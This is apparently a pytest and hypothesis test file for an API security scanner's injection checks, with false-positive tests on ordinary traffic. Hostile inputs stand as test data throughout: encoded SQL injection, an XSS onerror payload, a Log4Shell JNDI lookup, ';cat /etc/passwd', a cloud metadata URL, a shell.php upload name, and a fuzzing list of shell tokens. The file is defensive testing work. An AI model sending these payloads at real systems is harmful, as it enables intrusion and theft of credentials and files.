from __future__ import annotations

import uuid
from urllib.parse import quote

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apishield.checks.injection import _decoded, _texts, check_injection
from apishield.checks.registry import CheckContext, EndpointFacts, ParamRule
from apishield.checks.targets import Targets
from apishield.exchange import Exchange, Severity
from apishield.testing import make_exchange


class _Facts:
    def __init__(self, params: dict[tuple[str, str], ParamRule]) -> None:
        self.found = EndpointFacts(params=params)

    def facts(self, exchange: Exchange) -> EndpointFacts | None:
        return self.found


def _rules(exchange: Exchange, context: CheckContext | None = None) -> set[str]:
    return {f.rule_id for f in check_injection(exchange, context or CheckContext())}


def _classes(exchange: Exchange, context: CheckContext | None = None) -> set[str]:
    found = check_injection(exchange, context or CheckContext())
    return {f.evidence["class"] for f in found if "class" in f.evidence}


def test_encoded_sql_injection_in_a_query_value_is_found() -> None:
    exchange = make_exchange(query="id=7%2527%2520OR%2520%25271%2527%253D%25271")
    assert "sqli" in _classes(exchange)


def test_a_json_leaf_is_judged_on_its_own() -> None:
    body = orjson.dumps({"profile": {"bio": "<img src=x onerror=alert(document.domain)>"}})
    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/json"})
    found = check_injection(exchange, CheckContext())
    xss = [f for f in found if f.evidence.get("class") == "xss"]
    assert xss and xss[0].evidence["location"] == "body" and xss[0].evidence["name"] == "bio"
    assert xss[0].severity >= Severity.MEDIUM


@pytest.mark.parametrize("field", ["password", "new_pwd", "client_secret", "apiKey", "pin_code"])
def test_a_value_named_like_a_secret_never_reaches_the_evidence(field: str) -> None:
    secret = "jy0S'#S|p5QbCM0^_ryJ' OR '1'='1"  # a strong password can look like an attack
    body = orjson.dumps({"user": "ada", field: secret})
    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/json"})
    found = [f for f in check_injection(exchange, CheckContext()) if f.evidence.get("name")]
    assert found, "the value should still be judged"
    for finding in found:
        assert "jy0S" not in str(finding.evidence)
        assert finding.evidence["sample"].startswith("[withheld:")


def test_an_ordinary_field_keeps_its_masked_sample() -> None:
    body = orjson.dumps({"spinner": "x' OR '1'='1"})
    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/json"})
    (finding,) = check_injection(exchange, CheckContext())
    assert "OR '1'='1" in finding.evidence["sample"]


def test_jndi_in_a_custom_header() -> None:
    exchange = make_exchange(headers={"x-api-version": "${${lower:j}ndi:ldap://198.51.100.1/a}"})
    assert "log4shell" in _classes(exchange)


def test_ordinary_api_traffic_is_quiet() -> None:
    exchange = make_exchange(
        path="/v2/customers/40213377/orders",
        query="status=shipped&from=2024-01-01&sort=-created_at&q=O%27Brien+%26+Sons",
        headers={"user-agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)"},
    )
    assert _rules(exchange) == set()


def test_a_conforming_typed_value_is_not_scanned() -> None:
    """`1e3` style and dash-prefixed values pass their type; an attack in them does not."""
    facts = _Facts({("query", "order"): ParamRule("enum", frozenset({"desc--", "asc"}))})
    context = CheckContext(facts=facts)
    assert _rules(make_exchange(query="order=desc--"), context) == set()
    mismatch = check_injection(make_exchange(query="order=asc%27+or+1%3D1--"), context)
    rules = {f.rule_id for f in mismatch}
    assert "schema.type_mismatch" in rules
    assert any(r.startswith("inj.sqli") for r in rules)


def test_a_path_of_valid_typed_parameters_is_not_scanned() -> None:
    facts = _Facts({("path", "id"): ParamRule("integer")})
    exchange = make_exchange(path="/select/union/40213377")
    exchange.route = "/select/union/{id}"
    exchange.path_params = {"id": "40213377"}
    assert _rules(exchange, CheckContext(facts=facts)) == set()
    bad = make_exchange(path="/select/union/1%20union%20select%20password%20from%20users")
    bad.route = "/select/union/{id}"
    bad.path_params = {"id": "1%20union%20select%20password%20from%20users"}
    rules = _rules(bad, CheckContext(facts=facts))
    assert "schema.type_mismatch" in rules and any(r.startswith("inj.sqli") for r in rules)


def test_documented_odd_names_are_not_judged_as_keys() -> None:
    facts = _Facts({("query", "StartTime<"): ParamRule("date")})
    exchange = make_exchange(query="StartTime%3C=2024-01-01")
    assert _rules(exchange, CheckContext(facts=facts)) == set()


def test_nosql_operator_in_a_parameter_name() -> None:
    exchange = make_exchange(query="username=admin&password[$ne]=x")
    assert "nosqli" in _classes(exchange)


def test_evidence_is_short_and_masks_numbers() -> None:
    payload = "' union select card from cards where owner=4915112345678 -- " + "x" * 500
    exchange = make_exchange(
        method="POST",
        body=orjson.dumps({"q": payload}),
        headers={"content-type": "application/json"},
    )
    found = [f for f in check_injection(exchange, CheckContext()) if "sample" in f.evidence]
    assert found
    sample = found[0].evidence["sample"]
    assert len(sample) <= 80 and "4915112345678" not in sample


def test_oversized_and_deep_bodies_are_reported() -> None:
    big = make_exchange(method="POST", body=b"a" * 2000, headers={"content-type": "text/plain"})
    assert "req.body.capped" in _rules(big, CheckContext(max_body_bytes=1000))
    deep = make_exchange(
        method="POST", body=b"[" * 100 + b"]" * 100, headers={"content-type": "application/json"}
    )
    assert "req.body.deep" in _rules(deep)


@settings(max_examples=200, deadline=None)
@given(
    path=st.text(max_size=200),
    query=st.text(max_size=300),
    body=st.binary(max_size=2000),
    header=st.text(max_size=200),
)
def test_never_raises_on_hostile_input(path: str, query: str, body: bytes, header: str) -> None:
    for kind in ("application/json", "application/x-www-form-urlencoded", "text/xml"):
        exchange = make_exchange(
            method="POST",
            path=path,
            query=query,
            body=body,
            headers={"content-type": kind, "x-custom": header, "cookie": header},
        )
        check_injection(exchange, CheckContext())


def test_form_body_values_are_decoded_before_validation() -> None:
    facts = _Facts({("body", "SendAt"): ParamRule("date-time")})
    exchange = make_exchange(
        method="POST",
        body=b"SendAt=2024-03-15T10%3A22%3A05Z",
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert _rules(exchange, CheckContext(facts=facts)) == set()


class _Open:
    def quiet(self, text: str) -> bool:
        return False

    def quiet_parts(self, first: str, second: str) -> tuple[bool, bool]:
        return False, False


_PIECES = st.sampled_from(
    [
        "1",
        "a",
        "id",
        " ",
        "+",
        "=",
        "&",
        "%20",
        "%27",
        "%2F",
        "%3A",
        "'",
        '"',
        "or",
        "OR",
        "union",
        "select",
        "/",
        "..",
        "etc",
        "passwd",
        "<",
        ">",
        "script",
        "(",
        ")",
        ";",
        "|",
        "$",
        "{",
        "}",
        "jndi:",
        "ldap",
        "://",
        "127.0.0.1",
        "sleep",
        "--",
        "#",
        "exec",
        "alias",
        "cmd",
        "IF",
        "EXIST",
        "system",
        "eval",
        "%0d%0a",
        "Set-Cookie:",
        "\\",
        "x",
        "[$ne]",
        "ls",
        "-la",
        "whoami",
        "w'h'o",
        "ami",
        "~+",
        "!-1",
        "?",
        "*",
        "${IFS}",
        "\n",
        "\t",
        "@",
        "%0a",
        "-",
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    path=st.lists(_PIECES, max_size=8).map("/".join),
    query=st.lists(_PIECES, max_size=16).map("".join),
    cookie=st.lists(_PIECES, max_size=6).map("".join),
    header=st.lists(_PIECES, max_size=6).map("".join),
)
def test_the_gate_never_hides_what_value_by_value_judging_finds(
    path: str, query: str, cookie: str, header: str
) -> None:
    from apishield.checks import injection

    def judge(gated: bool) -> set[str]:
        exchange = make_exchange(
            path="/" + path,
            query=query,
            headers={"cookie": cookie, "x-client-version": header, "x-forwarded-for": "1.2.3.4"},
        )
        if gated:
            return _rules(exchange)
        real = injection.gate
        injection.gate = _Open  # type: ignore[assignment]
        try:
            return _rules(exchange)
        finally:
            injection.gate = real

    assert judge(gated=True) == judge(gated=False)


_TYPED = _Facts(
    {
        ("path", "id"): ParamRule("integer"),
        ("query", "id"): ParamRule("integer"),
        ("query", "a"): ParamRule("enum", frozenset({"a", "1"})),
        ("cookie", "id"): ParamRule("uuid"),
    }
)


@settings(max_examples=300, deadline=None)
@given(
    segment=st.lists(_PIECES, max_size=4).map("".join),
    query=st.lists(_PIECES, max_size=16).map("".join),
    cookie=st.lists(_PIECES, max_size=6).map("".join),
)
def test_on_a_typed_endpoint_the_gate_changes_no_finding(
    segment: str, query: str, cookie: str
) -> None:
    """Typed values are validated whether or not the gate is quiet, and each mismatch is
    reported once."""
    from apishield.checks import injection

    def judge(gated: bool) -> list[str]:
        exchange = make_exchange(
            path="/orders/" + segment,
            query=query,
            headers={"cookie": cookie, "user-agent": "probe/1"},
        )
        exchange.route = "/orders/{id}"
        exchange.path_params = {"id": segment}
        context = CheckContext(facts=_TYPED)
        if gated:
            return sorted(f.rule_id for f in check_injection(exchange, context))
        real = injection.gate
        injection.gate = _Open  # type: ignore[assignment]
        try:
            return sorted(f.rule_id for f in check_injection(exchange, context))
        finally:
            injection.gate = real

    assert judge(gated=True) == judge(gated=False)


@pytest.mark.parametrize(
    "value",
    [
        "cat%20%2Fetc%2Fpasswd",  # escapes the gate lets through: decoded, they spell a file
        "ls+-la+/home",  # `+` a form parser reads as a space
        "http:%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    ],
)
def test_a_header_the_gate_cannot_read_whole_is_judged(value: str) -> None:
    exchange = make_exchange(headers={"x-client-version": value, "x-forwarded-for": "1.2.3.4"})
    assert _classes(exchange)


def test_a_quiet_request_to_a_typed_endpoint_still_reports_each_mismatch_once() -> None:
    exchange = make_exchange(
        path="/orders/abc",
        query="id=7&a=b",
        headers={"cookie": "id=nope", "user-agent": "probe/1"},
    )
    exchange.route = "/orders/{id}"
    exchange.path_params = {"id": "abc"}
    found = check_injection(exchange, CheckContext(facts=_TYPED))
    assert sorted((f.rule_id, f.evidence["location"], f.evidence["name"]) for f in found) == [
        ("schema.type_mismatch", "cookie", "id"),
        ("schema.type_mismatch", "path", "id"),
        ("schema.type_mismatch", "query", "a"),
    ]


def test_an_xml_attribute_is_judged_as_the_value_the_application_reads() -> None:
    body = b'<?xml version="1.0"?><root><a probe="admin&apos; OR &apos;1&apos;=&apos;1"/></root>'
    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/xml"})
    assert "sqli" in _classes(exchange)


def test_an_xml_text_node_is_judged_on_its_own() -> None:
    body = b"<?xml version='1.0'?><cmd><run>;cat /etc/passwd</run></cmd>"
    exchange = make_exchange(method="POST", body=body, headers={"content-type": "text/xml"})
    assert _classes(exchange) & {"rce", "lfi"}


def test_an_ordinary_xml_document_stays_silent() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?><order xmlns="urn:shop:v1" id="40213377">'
        b"<customer>O'Brien &amp; Sons</customer><note>Leave it at the door, or next door."
        b"</note></order>"
    )
    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/xml"})
    assert _rules(exchange) == set()


def test_a_script_file_name_in_an_upload_header_is_found_in_any_spelling() -> None:
    for name in ("x-filename", "x_filename", "x.filename", "x-file-name"):
        exchange = make_exchange(path="/upload", headers={name: "avatar.phtml"})
        assert "inj.php.script-upload" in _rules(exchange), name


def test_a_script_file_name_in_a_multipart_part_is_found() -> None:
    body = (
        b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="up/shell.php"\r\n'
        b"Content-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"
    )
    exchange = make_exchange(
        method="POST", body=body, headers={"content-type": "multipart/form-data; boundary=XyZ"}
    )
    assert "inj.php.script-upload" in _rules(exchange)


def test_a_picture_upload_and_a_php_link_stay_silent() -> None:
    body = (
        b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="holiday.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\nJFIF\r\n--XyZ--\r\n"
    )
    upload = make_exchange(
        method="POST", body=body, headers={"content-type": "multipart/form-data; boundary=XyZ"}
    )
    link = make_exchange(query="next=%2Findex.php")
    assert _rules(upload) == set() and _rules(link) == set()


def test_a_session_id_in_a_link_from_another_site_is_found() -> None:
    exchange = make_exchange(
        path="/login",
        query="PHPSESSID=3f9a0c",
        headers={"host": "shop.example.com", "referer": "https://evil.example/"},
    )
    assert "session_fixation" in _classes(exchange)


def test_plus_signs_in_a_query_are_spaces_to_the_sql_tokeniser() -> None:
    """`+` is a space to every form parser; read literally it turns words into arithmetic."""
    for query in ("q=Select+menu+for+users", "q=credit+union", "q=European+Union"):
        assert _rules(make_exchange(query=query)) == set(), query
    assert "sqli" in _classes(make_exchange(query="id=1+union+select+1,2--"))
    assert "sqli" in _classes(make_exchange(query="id=1%2B1%20union%20select%20null--"))


def test_quoted_words_joined_by_or_in_prose_stay_silent() -> None:
    for text in ("`GET` or `POST`", "'yes' or 'no'", "use '*' as a wildcard for any digit"):
        query = "q=" + text.replace(" ", "%20").replace("'", "%27").replace("`", "%60")
        assert _rules(make_exchange(query=query)) == set(), text
    assert "sqli" in _classes(make_exchange(query="u=admin%27%20or%20%27x"))


_VALUE = st.text(alphabet=st.sampled_from("ab +%2C&#;\\/*é\u00a0\x00"), max_size=8)


@settings(max_examples=500, deadline=None)
@given(
    items=st.lists(st.tuples(_VALUE, st.booleans()), max_size=8),
    keep=st.lists(st.booleans(), max_size=8),
)
def test_the_forms_of_plain_values_are_found_without_decoding_each(
    items: list[tuple[str, bool]], keep: list[bool]
) -> None:
    """One look at all values gives the texts, owners and raw forms decoding each one gives."""
    targets = Targets()
    for number, (value, encoded) in enumerate(items):
        targets.add("query", f"p{number}", value, False, encoded)
    everything = range(len(items))
    assert _texts(targets, everything) == _decoded(targets.values, targets.places)
    chosen = [index for index in everything if index < len(keep) and keep[index]]
    values = [targets.values[index] for index in chosen]
    places = [targets.places[index] for index in chosen]
    assert _texts(targets, chosen) == _decoded(values, places)


def test_a_clean_user_agent_is_remembered_and_an_attack_never_is() -> None:
    from apishield.checks import injection

    injection._clean_headers.clear()
    browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    attack = "Mozilla/5.0' UNION SELECT password FROM users--"
    for _ in range(2):
        assert _rules(make_exchange(headers={"user-agent": browser})) == set()
        assert "sqli" in _classes(make_exchange(headers={"user-agent": attack}))
    assert browser in injection._clean_headers
    assert attack not in injection._clean_headers


def test_a_user_agent_the_sql_tokeniser_flags_is_never_remembered() -> None:
    from apishield.checks import injection

    injection._clean_headers.clear()
    hinted = "1) or (1"  # no signature fires on this one: only the tokeniser tells
    hint_only = "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00 or later"
    for _ in range(2):
        assert "sqli" in _classes(make_exchange(headers={"user-agent": hinted}))
        assert _classes(make_exchange(headers={"user-agent": hint_only})) == set()
    assert hinted not in injection._clean_headers
    assert hint_only in injection._clean_headers


def test_only_the_client_software_headers_are_remembered() -> None:
    from apishield.checks import injection

    injection._clean_headers.clear()
    _rules(make_exchange(headers={"x-api-key": "k-3f9a0c", "referer": "https://a.example/p?q=1"}))
    assert injection._clean_headers == set()


def test_the_remembered_values_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    from apishield.checks import injection

    injection._clean_headers.clear()
    monkeypatch.setattr(injection, "_CLEAN_MAX", 3)
    for n in range(10):  # the brackets keep the gate from passing it unjudged
        _rules(make_exchange(headers={"user-agent": f"client/{n} (linux)"}))
        assert len(injection._clean_headers) <= 3
    assert "client/9 (linux)" in injection._clean_headers


@settings(max_examples=200, deadline=None)
@given(st.uuids())
def test_a_uuid_in_a_header_holds_nothing_any_signature_or_the_tokeniser_finds(
    value: uuid.UUID,
) -> None:
    """Why `request_targets` leaves out UUID-shaped header values: judged anyway, in either
    case, they find nothing."""
    from apishield.checks.injection import matcher
    from apishield.checks.sqli import detect_sqli

    for text in (str(value), str(value).upper()):
        assert matcher().scan([text]) == []
        assert detect_sqli(text) is None


def test_a_user_agent_is_not_remembered_when_its_attack_was_reported_elsewhere() -> None:
    """A signature reports only the first value it fires in: the same payload in the query
    and the User-Agent must not leave the User-Agent remembered as clean."""
    from apishield.checks import injection

    injection._clean_headers.clear()
    payload = "<script>alert(document.domain)</script>"
    both = make_exchange(query="q=" + quote(payload, safe=""), headers={"user-agent": payload})
    assert "xss" in _classes(both)
    assert payload not in injection._clean_headers
    assert "xss" in _classes(make_exchange(headers={"user-agent": payload}))


def test_a_typed_user_agent_is_validated_on_every_request() -> None:
    from apishield.checks import injection

    injection._clean_headers.clear()
    context = CheckContext(facts=_Facts({("header", "user-agent"): ParamRule("uuid")}))
    first = check_injection(make_exchange(headers={"user-agent": "probe/1.0"}), context)
    again = check_injection(make_exchange(headers={"user-agent": "probe/1.0"}), context)
    assert [f.rule_id for f in first] == [f.rule_id for f in again] == ["schema.type_mismatch"]
